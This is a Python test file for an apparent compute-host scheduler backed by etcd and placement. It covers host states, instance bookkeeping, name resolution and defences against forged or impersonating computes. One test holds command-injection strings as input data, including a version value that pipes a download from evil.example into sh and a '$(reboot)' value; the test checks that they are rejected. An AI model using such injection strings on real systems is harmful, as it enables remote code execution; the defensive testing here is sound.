"""Computes as placement and etcd describe them: names, states, instances, leftovers."""

from __future__ import annotations

import json
from dataclasses import dataclass, replace
from typing import NamedTuple

import pytest
from hypothesis import given
from hypothesis import strategies as st

from ecomp.cli.operators import as_hosts
from ecomp.model import keys
from ecomp.model.allocation import Room
from ecomp.model.host import (
    NOBODY,
    Computes,
    Host,
    InEtcd,
    InPlacement,
    Leftovers,
    Living,
    Places,
    by_instance,
    changed_hosts,
    hostname_in,
    hosts,
    is_hostname,
    leftovers,
    living,
    living_in,
    refusal,
    silent_cure,
    there,
    to_json,
    unproven,
)
from ecomp.model.order import Invalid, Request
from ecomp.model.record import ACTIVE, GONE, Failure, Record
from ecomp.model.record import to_json as record_text
from ecomp.model.status import BY_OPERATOR, DISABLED
from ecomp.store.client import Entry
from tests.kit.forms import text

# A compute in both planes: its state, its living instances, and what may be removed with it.


HOST, OTHER = (f'{digit * 8}-3a52-4b0f-8d87-0d8f1f2a6b01' for digit in 'ab')
A, B, C, D, E = (f'{digit * 8}-0000-4b0f-8d87-0d8f1f2a6b01' for digit in '12345')

ROOM = {'VCPU': Room(4, 1), 'MEMORY_MB': Room(512, 128), 'DISK_GB': Room(10, 1)}
SHUT = {**ROOM, 'VCPU': Room(0, 1, shut=True)}


def wish(instance: str) -> Request:
    return Request(instance, {HOST: {'VCPU': 1, 'MEMORY_MB': 128, 'DISK_GB': 1}}, image='http://images.invalid/a')


def tombstone(instance: str) -> Request:
    return Request(instance, {})


def record(instance: str, state: str, compute: str = HOST) -> Record:
    return Record(instance, compute, state, image=None, error=Failure('disk', 'full', '') if state == 'error' else None)


def provider(shares: dict[str, Room] = ROOM, uuid: str = HOST, name: str = '') -> dict[str, InPlacement]:
    return {uuid: InPlacement(uuid, name or uuid, shares)}


def up(hosts: dict[str, str | None]) -> Computes:
    return Computes({compute: Living(host) for compute, host in hosts.items()})


def state(etcd: InEtcd, providers: dict[str, InPlacement]) -> str:
    (host,) = hosts(etcd, providers)
    return host.state


# Output of eschedule hosts


@pytest.mark.parametrize(
    ('etcd', 'providers', 'wanted'),
    [
        (InEtcd(up({HOST: 'hv1'})), provider(), 'up'),
        (InEtcd(up({HOST: 'hv1'})), provider(SHUT), 'up'),
        (InEtcd(up({HOST: None})), {}, 'up'),
        (InEtcd(), provider(SHUT), 'closed'),
        (InEtcd(requests={HOST: {A: wish(A)}}), provider(SHUT), 'closed'),
        (InEtcd(requests={HOST: {A: wish(A)}}), provider(), 'silent'),
        (InEtcd(requests={HOST: {A: tombstone(A)}}), {}, 'silent'),
        (InEtcd(records={A: record(A, 'active')}), {}, 'silent'),
        (InEtcd(records={A: record(A, 'gone')}), provider(), 'silent'),
        (InEtcd(junk={HOST: ['x']}), provider(), 'silent'),
        (InEtcd(), provider(), 'orphaned'),
        (InEtcd(), provider({}), 'orphaned'),
        (InEtcd(records={A: record(A, 'active', OTHER)}), {**provider(), **provider(uuid=OTHER)}, None),
    ],
)
def test_state(etcd: InEtcd, providers: dict[str, InPlacement], wanted: str | None) -> None:
    if wanted is None:
        assert {host.compute: host.state for host in hosts(etcd, providers)} == {HOST: 'orphaned', OTHER: 'silent'}
    else:
        assert state(etcd, providers) == wanted


@pytest.mark.parametrize(
    'foreign',
    [
        provider(name='nova-compute-7'),  # a placement shared with OpenStack
        provider({'DISK_GB': Room(1000, 5)}),  # a storage pool, shared by aggregate
        provider({}, name='new'),
    ],
)
def test_what_others_registered_is_no_compute_of_ours(foreign: dict[str, InPlacement]) -> None:
    assert hosts(InEtcd(), foreign) == []
    # If etcd knows it, it is shown with its data from placement.
    (shown,) = hosts(InEtcd(up({HOST: 'hv1'})), foreign)
    assert shown == Host(HOST, 'hv1', 'up', 0, foreign[HOST].shares, said=Living('hv1'))


def test_what_is_no_uuid_is_no_compute() -> None:
    assert hosts(InEtcd(up({'x': 'y'}), junk={'': ['z']}), {}) == []
    assert hosts(InEtcd(records={A: record(A, 'active', 'x')}), {}) == []


def test_hosts_are_sorted_by_name_and_those_without_come_last() -> None:
    third = 'c' + OTHER[1:]
    shown = hosts(InEtcd(up({third: 'hv1', OTHER: 'hv2'})), provider())
    assert [host.compute for host in shown] == [third, OTHER, HOST]


def test_a_host_that_is_away_is_shown_by_its_name() -> None:
    computes = Computes({OTHER: Living('hv2', '1.1.0', 'kvm', True)}, {HOST: 'hv1', 'c' + OTHER[1:]: 'hv3'})
    away, here = hosts(InEtcd(computes), provider(SHUT))
    assert (away.compute, away.hostname, away.state, away.said) == (HOST, 'hv1', 'closed', Living())
    assert (here.hostname, here.said.version, here.said.kind) == ('hv2', '1.1.0', 'kvm')


def test_free_is_never_negative_and_what_is_too_much_is_said() -> None:
    assert (Room(4, 1).free, Room(4, 1).over) == (3, 0)
    assert (Room(2, 3).free, Room(2, 3).over) == (0, 1)
    assert (Room(0, 3, shut=True).free, Room(0, 3, shut=True).over) == (0, 0)
    shown = text(as_hosts([Host(HOST, None, 'up', 2, {'VCPU': Room(2, 3), 'PCPU': Room(8, 0)})]))
    titles, values = (row.split('  ') for row in shown.splitlines())
    cells = dict(zip([cell.strip() for cell in titles if cell], [cell.strip() for cell in values if cell], strict=True))
    assert cells == {
        'COMPUTE': HOST,
        'HOST': '-',
        'STATE': 'up',
        'INSTANCES': '2',
        'VCPU USED/CAPACITY': '3/2 (1 too many)',
        'MEMORY_MB USED/CAPACITY': '-',
        'DISK_GB USED/CAPACITY': '-',
        'PCPU USED/CAPACITY': '0/8',
        'VERSION': '-',
        'KIND': '-',
    }


def test_json_says_the_same() -> None:
    facts = Living('hv1', '1.1.0', 'kvm', False)
    shown = text(as_hosts([Host(HOST, 'hv1', 'closed', 1, {'VCPU': Room(0, 1, shut=True)}, said=facts)]), 'json')
    assert json.loads(shown) == [
        {
            'compute': HOST,
            'hostname': 'hv1',
            'host': 'hv1',
            'version': '1.1.0',
            'kind': 'kvm',
            'queues': False,
            'state': 'closed',
            'disabled': False,
            'instances': 1,
            'resources': {'VCPU': {'used': 1, 'free': 0, 'capacity': 0, 'over': 0}},
        }
    ]


# Instances of a compute


def test_living() -> None:
    etcd = InEtcd(
        requests={
            HOST: {A: wish(A), B: tombstone(B), C: Invalid(C, 'not JSON')},
            OTHER: {D: wish(D)},
        },
        records={
            B: record(B, 'active'),  # its destroy was accepted
            D: record(D, 'active', OTHER),
            E: record(E, 'stopped'),  # its request key was deleted outside ecomp
        },
    )
    assert living(HOST, etcd) == {A, C, E}
    assert living(OTHER, etcd) == {D}


@pytest.mark.parametrize('ended', ['gone', 'error', 'destroying'])
def test_what_ended_does_not_live(ended: str) -> None:
    assert living(HOST, InEtcd(records={A: record(A, ended)})) == set()


@pytest.mark.parametrize('known', [record(A, 'gone'), record(A, 'active', OTHER)])
def test_a_request_its_compute_would_drop_does_not_live_there(known: Record) -> None:
    etcd = InEtcd(requests={HOST: {A: wish(A)}}, records={A: known})
    assert living(HOST, etcd) == set()
    assert leftovers(HOST, etcd, ()) == Leftovers(stray=(A,))


# Forgetting a compute


@pytest.mark.parametrize(
    ('etcd', 'held', 'at_it', 'says'),
    [
        (InEtcd(up({HOST: 'hv1'})), (), (), 'it is alive on hv1: stop'),
        (InEtcd(up({HOST: None})), (), (), 'it is alive: '),
        (InEtcd(requests={HOST: {A: wish(A)}}), (A,), (), f'instance {A} still there'),
        (InEtcd(records={A: record(A, 'active')}), (), (), f'instance {A} still there'),
        (InEtcd(records={A: replace(record(A, 'active'), name='web1')}), (), (), 'instance web1 still there'),
        (InEtcd(requests={HOST: {A: Invalid(A, 'not JSON')}}), (), (), f'instance {A} still there'),
        (
            InEtcd(requests={HOST: {each: wish(each) for each in (A, B, C, D, E)}}),
            *((), (), f'instances {A}, {B}, {C} and 2 more still there'),
        ),
        (InEtcd(), (A,), (A, B), f'an eschedule is at work on instance {A}'),
        (InEtcd(unreadable={A}), (A,), (), f'recorded of instance {A} there cannot be read'),
        (InEtcd(requests={HOST: {A: tombstone(A)}}, unreadable={A}), (), (), 'cannot be read'),
        (InEtcd(requests={OTHER: {A: wish(A)}}), (A,), (), f'instance {A} of compute {OTHER} holds'),
        (InEtcd(records={A: record(A, 'active', OTHER)}), (A,), (), f'instance {A} of compute {OTHER} holds'),
        (
            InEtcd(up({OTHER: 'hv2'}), {OTHER: {A: wish(A)}}), (A,), (),
            f'instance {A} of compute hv2 holds',
        ),
    ],
)
def test_refusal(
    etcd: InEtcd, held: tuple[str, ...], at_it: tuple[str, ...], says: str
) -> None:
    reason = refusal(HOST, etcd, held, at_it)
    assert reason is not None
    assert says in reason


@pytest.mark.parametrize(
    ('etcd', 'held', 'at_it', 'left'),
    [
        (InEtcd(), (), (), Leftovers()),
        (
            InEtcd(up({OTHER: 'hv2'}), requests={OTHER: {A: wish(A)}}, unreadable={B}), (), (B,),
            Leftovers(),
        ),
        (InEtcd(), (A,), (B,), Leftovers(orphans=(A,))),
        (
            InEtcd(records={A: record(A, 'gone'), B: record(B, 'error')}), (A, B), (),
            Leftovers(orphans=(A, B)),
        ),
        (
            InEtcd(
                requests={HOST: {A: tombstone(A), B: tombstone(B)}}, records={B: record(B, 'active')}
            ),
            *((A, B, C), (), Leftovers(ended=(A, B), orphans=(C,))),
        ),
        (InEtcd(records={A: record(A, 'destroying')}), (A,), (), Leftovers(ended=(A,))),
        (InEtcd(junk={HOST: ['x/y']}), (), (), Leftovers(stray=('x/y',))),
    ],
)
def test_leftovers(
    etcd: InEtcd, held: tuple[str, ...], at_it: tuple[str, ...], left: Leftovers
) -> None:
    assert refusal(HOST, etcd, held, at_it) is None
    assert leftovers(HOST, etcd, held) == left


@pytest.mark.parametrize(
    ('alive', 'traits', 'shares', 'wanted', 'shown'),
    [
        (True, {DISABLED, BY_OPERATOR}, ROOM, ('disabled', True), 'disabled'),
        (True, {DISABLED}, ROOM, ('disabled', True), 'disabled'),
        (True, set(), ROOM, ('up', False), 'up'),
        (False, {DISABLED}, SHUT, ('closed', False), 'closed'),  # its ecompute set this when it stopped
        (False, {DISABLED, BY_OPERATOR}, SHUT, ('closed', True), 'closed, disabled'),
        (False, {DISABLED, BY_OPERATOR}, ROOM, ('orphaned', True), 'orphaned, disabled'),
    ],
)
def test_disabled(
    alive: bool, traits: set[str], shares: dict[str, Room], wanted: tuple[str, bool], shown: str
) -> None:
    etcd = InEtcd(up({HOST: 'hv1'} if alive else {}))
    listed = hosts(etcd, {HOST: InPlacement(HOST, HOST, shares, frozenset(traits))})
    assert [(host.state, host.disabled) for host in listed] == [wanted]
    assert shown in [cell.strip() for cell in text(as_hosts(listed)).splitlines()[1].split('  ')]


def test_what_is_still_there() -> None:
    records = {
        A: record(A, 'active'),
        B: record(B, 'destroying'),
        C: record(C, 'gone'),
        D: record(D, 'active', OTHER),
    }
    etcd = InEtcd(requests={HOST: {A: wish(A), B: tombstone(B), C: wish(C)}}, records=records)
    assert there(HOST, etcd) == {A, B}


# Changed requests, by compute.


KEYS = st.tuples(st.sampled_from('abc'), st.sampled_from('uvw')).map(lambda each: keys.request(*each))
STATES = st.dictionaries(KEYS, st.integers(1, 3))


def state_of(revisions: dict[str, int]) -> dict[str, Entry]:
    return {key: Entry(key, b'', revision) for key, revision in revisions.items()}


@given(STATES, STATES)
def test_who_is_told_is_told_all_and_nobody_is_forgotten(before: dict[str, int], after: dict[str, int]) -> None:
    old_state = state_of(before)
    of_each = changed_hosts({}, old_state, {})
    copy = {compute: dict(entries) for compute, entries in of_each.items()}
    changed = changed_hosts(old_state, state_of(after), of_each)
    assert of_each == copy, 'what was told before is never changed'
    for compute in 'abc':
        former, current = (
            {key: revision for key, revision in revisions.items() if key.startswith(keys.request_prefix(compute))}
            for revisions in (before, after)
        )
        assert (compute in changed) == (former != current)
        if compute in changed:
            assert changed[compute] == state_of(current)


def test_a_value_that_is_kept_by_now_is_told() -> None:
    key = keys.request('a', 'u')
    long, short = Entry(key, b'', 7, dropped=2000), Entry(key, b'{}', 7)
    assert changed_hosts({key: long}, {key: short}, {'a': {key: long}}) == {'a': {key: short}}
    assert changed_hosts({key: short}, {key: Entry(key, b'{}', 7)}, {'a': {key: short}}) == {}


# Names of computes: the host name, and the uuid where the name is not unique.


HV1, HV2, HV3 = (f'{digit * 8}-3a52-4b0f-8d87-0d8f1f2a6b01' for digit in 'abc')


def test_a_compute_is_called_by_its_hosts_name_also_while_it_is_away() -> None:
    computes = Computes({HV1: Living('hv1')}, {HV1: 'hv1', HV2: 'hv2'})
    assert [computes.host(compute) for compute in (HV1, HV2, HV3)] == ['hv1', 'hv2', None]
    assert [computes.called(compute) for compute in (HV1, HV2, HV3)] == ['hv1', 'hv2', HV3]
    assert (computes.named('hv1'), computes.named('hv2'), computes.named('hv3')) == ([HV1], [HV2], [])
    assert NOBODY.called(HV1) == HV1


def test_what_it_says_while_it_is_alive_comes_before_what_is_remembered() -> None:
    computes = Computes({HV1: Living('new'), HV2: Living()}, {HV1: 'old', HV2: 'hv2'})
    assert (computes.called(HV1), computes.called(HV2), computes.named('old')) == ('new', 'hv2', [])


def test_of_two_with_one_name_the_uuid_is_said_also_where_one_alone_lives() -> None:
    """A compromised compute must not get requests for a host that is down by using its name."""
    shared = Computes({HV1: Living('hv1'), HV2: Living('hv1')}, {HV3: 'hv1'})
    assert (shared.named('hv1'), shared.called(HV1)) == ([HV1, HV2, HV3], f'hv1 ({HV1})')
    impersonated = Computes({HV2: Living('hv1')}, {HV1: 'hv1', HV2: 'hv2'})
    assert impersonated.named('hv1') == [HV1, HV2]
    assert (impersonated.called(HV2), impersonated.called(HV1)) == (f'hv1 ({HV2})', f'hv1 ({HV1})')
    # A host that was set up again has a new uuid. Its name is unique after the old compute is forgotten.
    replaced = Computes({HV2: Living('hv1')}, {HV2: 'hv1'})
    assert (replaced.named('hv1'), replaced.called(HV2)) == ([HV2], 'hv1')


def test_a_text_is_told_with_names_and_a_path_is_left() -> None:
    computes = Computes({}, {HV1: 'hv1'})
    assert computes.translated(f'it is on compute {HV1}, {HV1}: and {HV2}') == f'it is on compute hv1, hv1: and {HV2}'
    for path in (f'/hosts/{HV1}/x', f'/instances/{HV1}', f'{HV1}/x', f'{HV1}-0', f'0{HV1}'):
        assert computes.translated(path) == path


@pytest.mark.parametrize(
    'word',
    ['', 'a b', 'hv1\n', '\x1b[2J', 'ü', '.hv1', '-hv1', 'h' * 254, HV1, HV1.upper(), HV1.replace('-', ''), None, 7],
)
def test_no_host_name(word: object) -> None:
    assert not is_hostname(word)
    assert hostname_in(json.dumps({'version': 1, 'hostname': word}).encode()) is None


@pytest.mark.parametrize('word', ['hv1', 'HV-1.example.org', '10', '_x', 'cafe'])
def test_host_names(word: str) -> None:
    assert hostname_in(to_json(word).encode()) == word


def test_what_a_living_compute_says_is_believed_as_far_as_it_makes_sense() -> None:
    facts = {'hostname': 'hv1', 'version': '1.1.0', 'kind': 'kvm', 'queues': True, 'token': 'x'}
    assert living_in(json.dumps(facts).encode()) == Living('hv1', '1.1.0', 'kvm', True)
    assert living_in(b'{"hostname": "hv1", "version": "1.0.0"}') == Living('hv1', '1.0.0')
    for value in (b'', b'[]', b'{"hostname": 1, "version": [], "kind": "", "queues": "yes"}', b'\xff'):
        assert living_in(value) == Living()
    assert living_in(json.dumps({'version': 'v' * 10_000}).encode()) == Living(version='v' * 64)
    for version in ("9'; curl evil.example|sh; '", '9 9', '$(reboot)', '9\n'):
        assert living_in(json.dumps({**facts, 'version': version}).encode()) == Living('hv1', None, 'kvm', True)


def test_that_nobody_takes_from_queues_is_said_where_it_is_known() -> None:
    assert 'no compute takes from queues: `queues: True`' in str(NOBODY.no_taker)
    assert 'no compute takes' in str(Computes({HV1: Living('hv1', queues=False)}).no_taker)
    message = str(Computes({HV1: Living('hv1', queues=False), HV2: Living('hv2'), HV3: Living('hv3')}).no_taker)
    assert 'of hv2 and 1 more, of an older version, it is not known' in message
    assert Computes({HV1: Living('hv1', queues=False), HV2: Living('hv2')}).unserved(['web1']) is None
    no_takers = Computes({HV1: Living('hv1', queues=False)})
    assert str(no_takers.unserved(['web1'])).startswith('web1 waits in a queue, and no compute takes from queues: ')
    assert str(no_takers.unserved(['a', 'b', 'c'])).startswith('a and 2 more wait in a queue, and no compute')
    assert no_takers.unserved([]) is None
    with_takers = Computes({HV2: Living('hv2', queues=True), HV1: Living('hv1', queues=True), HV3: Living('hv3')})
    assert (with_takers.takers, with_takers.no_taker) == ([HV1, HV2], None)


class Presence(NamedTuple):
    """The parts of a presence key that these tests need."""

    revision: int
    lease: int
    value: bytes = b'{}'
    created: int = 1


def test_a_presence_key_proves_life_only_if_it_was_written_since_or_every_lease_has_ended() -> None:
    providers = {HV1: HV1, HV2: HV2, HV3: HV3, 'd': 'a-shared-disk'}
    restored = {HV1: Presence(5, 1), HV2: Presence(9, 1), HV3: Presence(9, 0)}
    restored = {f'/computes/{compute}': presence for compute, presence in restored.items()}
    assert unproven(providers, restored, 5, has_lease_ended=False) == [HV1, HV3]
    assert unproven(providers, restored, 5, has_lease_ended=True) == [HV3]
    assert unproven(providers, {}, 5, has_lease_ended=True) == [HV1, HV2, HV3]
    assert unproven({}, restored, 5, has_lease_ended=False) == []


def test_a_cure_that_names_a_command_names_one_word_for_the_host() -> None:
    """A shell would refuse the parentheses of `name (uuid)`."""
    assert 'host forget hv2 --fenced' in silent_cure('hv2')
    uuid = 'c0000000-0000-4000-8000-000000000003'
    assert f'host forget {uuid} --fenced' in silent_cure(f'hv2 ({uuid})')


# The trusted record of an instance that has several keys.


INSTANCE = 'd578fb7c-7787-4e73-b69a-a7b3ef9bf73a'
ONE = 'b8756be5-a30d-4311-920c-0ad996367a8e'
TWO = '5ca1ab1e-0000-4000-8000-000000000000'


@dataclass
class Value:
    value: bytes
    created: int
    revision: int = 0


def record_at(compute: str, state: str, created: int) -> Value:
    return Value(record_text(Record(INSTANCE, compute, state)).encode(), created)


def found(*pairs: tuple[str, Value]) -> Places[Value]:
    return by_instance(pairs)[INSTANCE]


@pytest.mark.fast
@pytest.mark.parametrize('rubbish', [b'', b'null', b'{"version": 2}', b'[' * 100])
def test_what_cannot_be_read_at_the_older_place_hides_no_record(rubbish: bytes) -> None:
    """A finished instance, whose request is deleted, must not look unfinished forever."""
    ended = record_at(ONE, GONE, created=9)
    pairs = [(keys.old_record(INSTANCE), Value(rubbish, 1)), (keys.record(ONE, INSTANCE), ended)]
    assert found(*pairs).record is found(*reversed(pairs)).record is ended
    alone = Value(rubbish, 1)
    assert found((keys.old_record(INSTANCE), alone)).record is alone, 'it is all there is'


@pytest.mark.fast
def test_of_several_that_can_be_read_the_oldest_key_is_believed() -> None:
    first, later = record_at(ONE, ACTIVE, created=2), record_at(TWO, ACTIVE, created=5)
    assert found((keys.record(TWO, INSTANCE), later), (keys.record(ONE, INSTANCE), first)).compute == ONE
    # An instance destroyed while queued stays gone, even if a compute writes a record later.
    unassigned = record_at('', GONE, created=2)
    assert found(
        (keys.record(TWO, INSTANCE), later), (keys.record('', INSTANCE), unassigned)
    ).record is unassigned


@pytest.mark.fast
def test_who_is_asked_is_believed_before_who_has_a_record() -> None:
    pairs = [
        (keys.record(TWO, INSTANCE), record_at(TWO, ACTIVE, 1)),
        (keys.request(ONE, INSTANCE), Value(b'{}', 7)),
    ]
    assert (found(*pairs).compute, found(*pairs).record) == (ONE, None)


@pytest.mark.fast
def test_of_several_that_are_asked_the_one_that_holds_the_claim_is_believed() -> None:
    """A forged request may be older than the delivery, because the uuid is public by then."""
    forged, genuine = Value(b'{}', 3), Value(b'{}', 7)
    pairs = [(keys.request(ONE, INSTANCE), forged), (keys.request(TWO, INSTANCE), genuine)]
    pairs += [(keys.record(ONE, INSTANCE), record_at(ONE, GONE, 4))]
    pairs += [(keys.record(TWO, INSTANCE), record_at(TWO, ACTIVE, 8))]
    for claims, compute, queried in (
        ({TWO: [INSTANCE]}, TWO, [ONE, TWO]),
        ({ONE: [INSTANCE]}, ONE, [ONE]),
        ({ONE: [INSTANCE], TWO: [INSTANCE]}, ONE, [ONE]),
        ({ONE: ['another']}, ONE, [ONE, TWO]),
    ):
        places, told = found(*pairs), []

        def claims_of(each: str, claims: dict[str, list[str]] = claims, told: list[str] = told) -> list[str]:
            told.append(each)
            return claims.get(each, [])

        places.judge(INSTANCE, claims_of)
        assert (places.compute, told) == (compute, queried)
        assert places.record is dict(pairs)[keys.record(compute, INSTANCE)]


@pytest.mark.fast
def test_of_one_that_is_asked_nobody_asks_placement() -> None:
    pairs = [
        (keys.request(ONE, INSTANCE), Value(b'{}', 3)),
        (keys.record(TWO, INSTANCE), record_at(TWO, ACTIVE, 1)),
    ]
    places = found(*pairs)
    places.judge(INSTANCE, lambda _: pytest.fail('asked'))
    assert places.compute == ONE
